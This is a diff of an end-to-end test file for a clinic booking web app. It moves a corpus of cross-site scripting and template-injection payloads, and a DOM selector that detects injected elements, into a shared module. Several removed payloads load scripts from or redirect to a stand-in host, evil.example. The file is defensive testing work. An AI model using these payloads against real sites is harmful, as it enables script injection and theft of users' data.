@@ -5,32 +5,10 @@ import { writeStaffNote } from '../../module/host/notes.js'
 import { openWindow, type Window } from '../support/browser.js'
 import { MONDAY, OFFICE_VISIT, openPractice, type TestPractice } from '../support/practice.js'
 import type { Fields, Visitor } from '../support/visitor.js'
+import { CORPUS, squeezed, STRANGE, typedInto } from './attacks.js'
 import { appointmentPage } from './pages/patient.js'
 import { declinePage, hallPage, panelPage, queuePage, staffAppointmentPage } from './pages/staff.js'
 import { requestVisit } from './visits.js'
-
-const CORPUS = [
-  `<script>alert(1)</script>`,
-  `<img src=x onerror=alert(1)>`,
-  `"><svg onload=alert(1)>`,
-  `'><script src=//evil.example/x.js></script>`,
-  `</textarea><script>alert(1)</script>`,
-  `</title><script>alert(1)</script>`,
-  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
-  `<body onload=alert(1)>`,
-  `<details open ontoggle=alert(1)>`,
-  `<a href="javascript:alert(1)">results</a>`,
-  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
-  `<button hx-get="/portal" hx-trigger="load" hx-on:load="alert(1)">x</button>`,
-  `<form action="//evil.example"><input name=_csrf></form>`,
-  `<base href="//evil.example/">`,
-  `<meta http-equiv="refresh" content="0;url=//evil.example">`,
-  `<style>*{background:url(//evil.example/x)}</style>`,
-  `<div hx-swap-oob="innerHTML:#flash">gone</div>`,
-  `<%= 7 * 7 %> {{7*7}} \${7*7}`,
-  `javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
-  `\u202e<script>alert(1)</script>\u0000\ufeff`,
-]
 
 describe('A reason that is an attack', function () {
   this.timeout(240_000)
@@ -154,14 +132,7 @@ const FIELDS = {
 
 type Field = keyof typeof FIELDS
 
-/** Something that says which field it was, with as many attacks as there is room for; the whole corpus over all fields. */
-const TYPED = Object.fromEntries(
-  Object.entries(FIELDS).map(([field, most], at) => {
-    const attacks = [`"><svg onload=alert(1)>`, ...CORPUS.slice(at % CORPUS.length), ...CORPUS]
-    const text = attacks.reduce((sum, each) => (sum.length + each.length > most ? sum : sum + each), `${field}~`)
-    return [field, text.slice(0, most)]
-  }),
-) as Record<Field, string>
+const TYPED = typedInto(FIELDS)
 
 describe('Whatever is typed, wherever', function () {
   this.timeout(480_000)
@@ -381,14 +352,3 @@ describe('Whatever is typed, wherever', function () {
     await practice.refresh()
   }
 })
-
-/** What no page of ours has: a script that is not ours, a frame, a base, a style, a handler, a foreign address. */
-const STRANGE = `[...document.querySelectorAll(
-  'script:not([src^="/assets/"]), iframe, base, meta[http-equiv], style, math, main svg:not(.icon):not(.swatch), object, embed, [srcdoc], ' +
-  '[href^="javascript:" i], form[action*="evil"], [src*="evil"], [onload], [onerror], [ontoggle], [hx-on\\\\:load], img[src="x"]'
-)].map((each) => each.outerHTML.slice(0, 200))`
-
-// HTML and innerText lay out white space in their own ways; controls are not shown.
-function squeezed(text: string): string {
-  return text.replaceAll('\u0000', '').replace(/\s+/g, '')
-}
